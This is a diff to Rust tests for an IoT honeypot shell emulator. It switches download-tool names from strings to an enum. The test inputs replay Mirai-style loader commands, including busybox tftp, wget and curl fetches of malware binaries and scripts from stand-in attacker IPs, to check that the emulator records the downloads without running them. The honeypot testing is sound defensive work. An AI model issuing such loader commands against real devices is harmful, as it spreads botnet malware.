@@ -1,6 +1,6 @@
 //! Applet and shell tests against a real built-in persona.
 
-use crate::{Effect, Limits, Outcome, Shell, System};
+use crate::{Effect, Limits, Outcome, Shell, System, Tool};
 use iotpot_core::deployment::Deployment;
 use iotpot_core::Profile;
 
@@ -64,7 +64,7 @@ fn mirai_scanner_and_loader_flow() {
         o.effects[0],
         Effect::Download {
             url: "http://198.51.100.7:80/bins/mirai.arm7".into(),
-            tool: "wget",
+            tool: Tool::Wget,
             dest: "-".into()
         }
     );
@@ -74,7 +74,7 @@ fn mirai_scanner_and_loader_flow() {
         "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.7",
     );
     assert!(
-        matches!(&o.effects[0], Effect::Download { url, tool: "tftp", dest } if url == "tftp://198.51.100.7/mirai.arm7" && dest == "dvrHelper")
+        matches!(&o.effects[0], Effect::Download { url, tool: Tool::Tftp, dest } if url == "tftp://198.51.100.7/mirai.arm7" && dest == "dvrHelper")
     );
     // Delivery 3: echo, byte by byte, then run it.
     let elf: Vec<u8> = (0..300u32).map(|i| (i * 37 % 256) as u8).collect();
@@ -203,10 +203,13 @@ fn scripts_run_inside_the_emulation() {
     );
     // Download tools the device lacks are still recorded.
     let o = run(&mut sh, "curl -O http://203.0.113.5/c.sh");
-    assert!(o
-        .effects
-        .iter()
-        .any(|e| matches!(e, Effect::Download { tool: "curl", .. })));
+    assert!(o.effects.iter().any(|e| matches!(
+        e,
+        Effect::Download {
+            tool: Tool::Curl,
+            ..
+        }
+    )));
     assert_eq!(String::from_utf8_lossy(&o.output), "-sh: curl: not found\n");
 }
 
@@ -288,7 +291,7 @@ fn downloads_wait_for_the_fetch_and_replay() {
         o.pending,
         Some(FetchRequest {
             url: "http://203.0.113.5/bins.sh".into(),
-            tool: "wget",
+            tool: Tool::Wget,
             dest: "bins.sh".into()
         })
     );
